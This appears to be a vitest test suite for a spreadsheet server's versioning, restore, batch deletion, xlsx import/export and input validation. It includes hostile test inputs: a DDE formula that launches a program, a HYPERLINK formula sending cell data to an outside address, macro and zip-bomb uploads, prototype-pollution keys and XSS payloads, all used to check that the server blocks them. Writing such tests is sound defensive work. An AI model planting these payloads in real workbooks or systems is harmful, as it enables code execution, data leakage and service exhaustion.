import excel from 'exceljs';
import { sql } from 'kysely';
import { describe, expect, it } from 'vitest';
import { emptyLayout, type SheetCell, type SheetLayout, type SheetText } from '#core/spreadsheet/book.ts';
import { payloads } from '#core/testing/html-payloads.ts';
import { buildUser } from '#server/testing/builders.ts';
import { officeOf } from '#server/testing/zip.ts';
import { spreadsheetStage, type News, type Cells } from '#server/testing/spreadsheet-stage.ts';

const { all, call, make, read, change, put, cellsOf, shared, upload, download, server } = spreadsheetStage();

describe('[B2.10] versions of a spreadsheet', () => {
  const versions = async (id: string) =>
    (await call<{ versionNo: number; note: string; createBy: string }[]>('owner', 'GET', `version/list?id=${id}`)).body
      .result;

  it('keep the work before the next change after ten minutes, under the name of who did it', async () => {
    const id = await shared('历史', 3);
    await put('owner', id, 0, [[0, 0, { value: '第一稿' }]]);
    await put('owner', id, 1, [[0, 1, { value: '继续' }]]);
    expect(await versions(id)).toHaveLength(1);
    await sql`update doc_version set create_time = now() - interval '11 minutes' where item_id = ${id}`.execute(
      server.db,
    );
    await put('colleague', id, 2, [[0, 0, { value: '毁了' }]]);
    expect((await versions(id)).map(({ versionNo, createBy }) => [versionNo, createBy])).toEqual([
      [2, '王芳'],
      [1, '王芳'],
    ]);
    const old = await call<{ sheets: SheetText[] }>('owner', 'GET', `version/queryByNo?id=${id}&versionNo=2`);
    expect(old.body.result.sheets[0]?.cells.map(({ cell }) => cell?.value)).toEqual(['第一稿', '继续']);
  });

  it('come back as a new version, and what stood there is kept', async () => {
    const id = await make('owner', '恢复');
    await put('owner', id, 0, [[0, 0, { value: '好' }]]);
    expect((await call<number>('owner', 'POST', 'version/add', { id, note: '月底' })).body.result).toBe(2);
    await put('owner', id, 1, [[0, 0, { value: '坏' }]]);
    expect((await call('owner', 'PUT', 'version/restore', { id, versionNo: 2, revision: 1 })).status).toBe(409);
    const back = await call<number>('owner', 'PUT', 'version/restore', { id, versionNo: 2, revision: 2 });
    expect(back.body.result).toBe(4);
    expect(await cellsOf('owner', id)).toEqual([[0, 0, { value: '好' }]]);
    expect((await versions(id)).map(({ versionNo, note }) => [versionNo, note])).toEqual([
      [4, '恢复自版本 2'],
      [3, ''],
      [2, '月底'],
      [1, ''],
    ]);
    // Others get the sheets whole.
    expect((await call<News>('owner', 'GET', `sheet/news?id=${id}&since=2`)).body.result.sheets).toHaveLength(1);
    expect((await call('owner', 'PUT', 'version/restore', { id, versionNo: 99, revision: 3 })).status).toBe(404);
  });

  it('tell a second writer at once who brought which version back; what he wrote before is refused, not mixed in', async () => {
    const id = await shared('两人', 3);
    await put('owner', id, 0, [[0, 0, { value: '新' }]]);
    await call('owner', 'PUT', 'version/restore', { id, versionNo: 1, revision: 1 });
    const news = (await call<News>('colleague', 'GET', `sheet/news?id=${id}&since=1`)).body.result;
    expect(news.restored).toEqual({ versionNo: 1, by: '王芳' });
    const late = await put('colleague', id, 1, [[4, 4, { value: '迟到' }]]);
    expect(late.status).toBe(409);
    expect(late.body.message).toBe('“两人”已被王芳恢复为版本 1，您的修改尚未保存，请另存为副本或重新载入');
    expect(await cellsOf('owner', id)).toEqual([]);
    // Who heard of it goes on.
    expect((await put('colleague', id, news.revision, [[4, 4, { value: '之后' }]])).status).toBe(200);
    const after = (await call<News>('owner', 'GET', `sheet/news?id=${id}&since=${news.revision}`)).body.result;
    expect(after).not.toHaveProperty('restored');
  });

  it('are deleted several at a time by who may delete several only, and a writer of a deleted one hears it in words', async () => {
    const [first, second] = [await shared('一', 3), await make('owner', '二')];
    const { username, password } = await buildUser(server.db, {
      permissions: all.filter((code) => !code.endsWith('batch_delete')),
    });
    const single = await server.signIn(username, password);
    const [own, other] = [await make(single, '甲'), await make(single, '乙')];
    expect((await call(single, 'DELETE', `sheet/deleteBatch?ids=${own},${other}`)).status).toBe(403);
    expect((await call(single, 'DELETE', `sheet/deleteBatch?ids=${own}`)).status).toBe(200);
    expect((await call('owner', 'DELETE', `sheet/deleteBatch?ids=${first},${second}`)).status).toBe(200);
    const late = await put('colleague', first, 0, [[0, 0, { value: '迟到' }]]);
    expect([late.status, late.body.message]).toEqual([404, '在线表格不存在、已被删除，或您没有查看它的权限']);
  });
});

describe('[B2.10] [FIL-03] workbooks', () => {
  it('go out and come in again with values, formulas, formats, looks and joined cells', async () => {
    const id = await make('owner', '往返');
    const cells: Cells = [
      [0, 0, { value: '品名', style: { bold: true, fill: '#ffee00', align: 'center' } }],
      [0, 1, { value: 12.5, text: '12.50', format: '0.00' }],
      [0, 2, { value: 25, formula: '=B1*2', text: '25' }],
      [1, 0, { value: true }],
      [1, 1, { value: '=1+1', isText: true }],
      [1, 2, { value: '007', isText: true }],
    ];
    await put('owner', id, 0, cells);
    const layout: SheetLayout = {
      ...emptyLayout('数据', 0),
      merges: [{ row: 4, column: 0, rows: 2, columns: 3 }],
      columnWidths: [{ at: 0, size: 180 }],
      frozenRows: 1,
    };
    expect((await change('owner', id, 1, { sheets: [{ id: 'sheet1', layout }] })).status).toBe(200);
    const book = await download('owner', id);
    const sheet = book.getWorksheet('数据');
    expect(sheet?.getCell('C1').value).toEqual({ formula: 'B1*2', result: 25 });
    expect([sheet?.getCell('B2').type, sheet?.getCell('B2').value]).toEqual([excel.ValueType.String, '=1+1']);
    const back = await upload('owner', Buffer.from(await book.xlsx.writeBuffer()), '往返.xlsx');
    expect([back.status, back.body.result.left]).toEqual([200, []]);
    const { sheets } = (await read('owner', back.body.result.id)).body.result;
    expect(sheets[0]?.layout).toMatchObject({
      name: '数据',
      merges: layout.merges,
      columnWidths: [{ at: 0, size: 180 }],
      frozenRows: 1,
    });
    const found = new Map(sheets[0]?.cells.map(({ row, column, cell }) => [`${row} ${column}`, cell]));
    for (const [row, column, cell] of cells) {
      const { text: _text, style: _style, ...rest } = cell ?? { value: null };
      expect(found.get(`${row} ${column}`), `${row} ${column}`).toMatchObject(rest);
    }
    expect(found.get('0 0')?.style).toMatchObject({ bold: true, fill: '#ffee00', align: 'center' });
  });

  it('never hold a formula that reaches other programs, files or addresses', async () => {
    const id = await make('owner', '外部');
    await put('owner', id, 0, [
      [0, 0, { value: 7, formula: "=cmd|'/C calc'!A0" }],
      [0, 1, { value: 8, formula: '=HYPERLINK("https://example.com?"&A1)' }],
      [0, 2, { value: "=cmd|'/C calc'!A0" }],
    ]);
    const sheet = (await download('owner', id)).getWorksheet('Sheet1');
    // Nobody computes them, so what goes out is the text of the error.
    expect([sheet?.getCell('A1').value, sheet?.getCell('B1').value]).toEqual(['#ERROR!', '#ERROR!']);
    expect(sheet?.getCell('C1').type).toBe(excel.ValueType.String);
    const book = new excel.Workbook();
    book.addWorksheet('外').getCell('A1').value = { formula: '[1]Sheet1!A1', result: 3 };
    const back = await upload('owner', Buffer.from(await book.xlsx.writeBuffer()), '外.xlsx');
    expect(back.body.result.left).toEqual([expect.stringContaining('公式')]);
    expect(await cellsOf('owner', back.body.result.id)).toEqual([[0, 0, { value: 3 }]]);
  });

  it('are refused when they are too large, no workbook, have macros or are made to exhaust', async () => {
    const wide = new excel.Workbook();
    wide.addWorksheet('宽').getCell(1, 300).value = 1;
    const long = new excel.Workbook();
    long.addWorksheet('长').getCell(10_001, 1).value = 1;
    const bytes = async (book: excel.Workbook) => Buffer.from(await book.xlsx.writeBuffer());
    const cases: [Buffer, string, string][] = [
      [await bytes(wide), '宽.xlsx', '256 列'],
      [await bytes(long), '长.xlsx', '10000 行'],
      [Buffer.from('a,b\n1,2'), 'a.csv', '.xlsx'],
      [Buffer.from('not a workbook'), 'a.xlsx', '.xlsx'],
      [await bytes(wide), 'a.xlsm', '宏'],
      [officeOf({ name: 'xl/vbaProject.bin', data: Buffer.from('x') }), 'm.xlsx', '宏'],
      [officeOf({ name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(50 * 1024 * 1024) }), 'bomb.xlsx', '解压'],
    ];
    for (const [file, name, words] of cases) {
      const { status, body } = await upload('owner', file, name);
      expect([status, body.message], name).toEqual([422, expect.stringContaining(words)]);
    }
    expect((await upload('other', await bytes(long), 'a.xlsx')).status).toBe(403);
  });

  it('that are larger than the limit of cells are refused with the number', async () => {
    const book = new excel.Workbook();
    const sheet = book.addWorksheet('多');
    for (let row = 0; row < 5_001; row += 1) sheet.addRow([1, 2, 3, 4, 5, 6, 7, 8, 9, 10]);
    const { status, body } = await upload('owner', Buffer.from(await book.xlsx.writeBuffer()), '多.xlsx');
    expect([status, body.message]).toEqual([422, expect.stringContaining('50000')]);
  });
});

describe('[B2.10] [XSS-01] what is written into a spreadsheet', () => {
  it('stays text: every trick comes back as it was typed, in cells, names of sheets and workbooks', async () => {
    const id = await make('owner', '脚本');
    await put(
      'owner',
      id,
      0,
      payloads.map((value, row) => [row % 100, Math.floor(row / 100), { value }] as const),
    );
    const values = new Set((await cellsOf('owner', id)).map(([, , cell]) => (cell as SheetCell).value));
    // oxlint-disable-next-line no-control-regex -- no workbook can hold them, so they go
    const kept = (payload: string): string => payload.replaceAll(/[\0-\u0008\u000b\u000c\u000e-\u001f]/g, '');
    for (const payload of payloads) expect(values.has(kept(payload)), payload).toBe(true);
    const sheet = (await download('owner', id)).getWorksheet('Sheet1');
    const written = new Set<unknown>();
    sheet?.eachRow((row) => row.eachCell((cell) => void written.add(cell.value)));
    for (const value of written) expect(typeof value).toBe('string');
  });

  it('is refused when it is none of what a cell or sheet has', async () => {
    const id = await make('owner', '形状');
    const bad: object[] = [
      { cells: [{ sheetId: 'sheet1', row: 0, column: 0, cell: { value: 1, html: '<b>' } }] },
      { cells: [{ sheetId: 'sheet1', row: 0, column: 0, cell: { value: { a: 1 } } }] },
      { cells: [{ sheetId: '__proto__', row: 0, column: 0, cell: { value: 1 } }], __proto__x: 1 },
      { cells: [{ sheetId: 'sheet1', row: -1, column: 0, cell: null }] },
      { cells: [{ sheetId: 'sheet1', row: 0, column: 300, cell: null }] },
      { cells: [{ sheetId: 'sheet1', row: 0, column: 0, cell: { value: 1, style: { color: 'red;x' } } }] },
      { cells: [{ sheetId: 'sheet1', row: 0, column: 0, cell: { value: 1, formula: 'A1' } }] },
      { cells: [{ sheetId: 'sheet1', row: 0, column: 0, cell: { value: 'x'.repeat(40_000) } }] },
      { cells: Array.from({ length: 5_001 }, (_, row) => ({ sheetId: 'sheet1', row, column: 0, cell: null })) },
      { sheets: [{ id: 'a b', layout: emptyLayout('x', 1) }] },
      { sheets: [{ id: 'x', layout: { ...emptyLayout('x', 1), constructor: {} } }] },
      { sheets: [{ id: 'x', layout: { ...emptyLayout('x', 1), rows: 20_000 } }] },
    ];
    for (const part of bad) {
      const { status } = await change('owner', id, 0, part);
      expect([400, 422], JSON.stringify(part).slice(0, 120)).toContain(status);
    }
    const proto = await change('owner', id, 0, {
      cells: [{ sheetId: '__proto__', row: 0, column: 0, cell: { value: 1 } }],
    });
    expect(proto.status).toBe(409);
    const beyond = await put('owner', id, 0, [[150, 0, { value: 1 }]]);
    expect(beyond.status).toBe(422);
    const controls = await put('owner', id, 0, [[0, 0, { value: 'a\u0000b\ud800c\u0007' }]]);
    expect(controls.status).toBe(200);
    expect(await cellsOf('owner', id)).toEqual([[0, 0, { value: 'ab\ufffdc' }]]);
  });

  it('has a limit for the whole spreadsheet', async () => {
    const id = await make('owner', '满');
    await sql`
      insert into sheet_cell (tenant_id, page_id, row_no, column_no, cell, revision, changed_by)
      select p.tenant_id, p.id, g / 20, g % 20, '{"value":1}', 0, p.changed_by
      from sheet_page p, generate_series(0, 49999) g where p.item_id = ${id}`.execute(server.db);
    const { status, body } = await put('owner', id, 0, [[99, 25, { value: 1 }]]);
    expect([status, body.message]).toEqual([422, expect.stringContaining('50000')]);
    expect((await put('owner', id, 0, [[0, 0, null]])).status).toBe(200);
  });
});
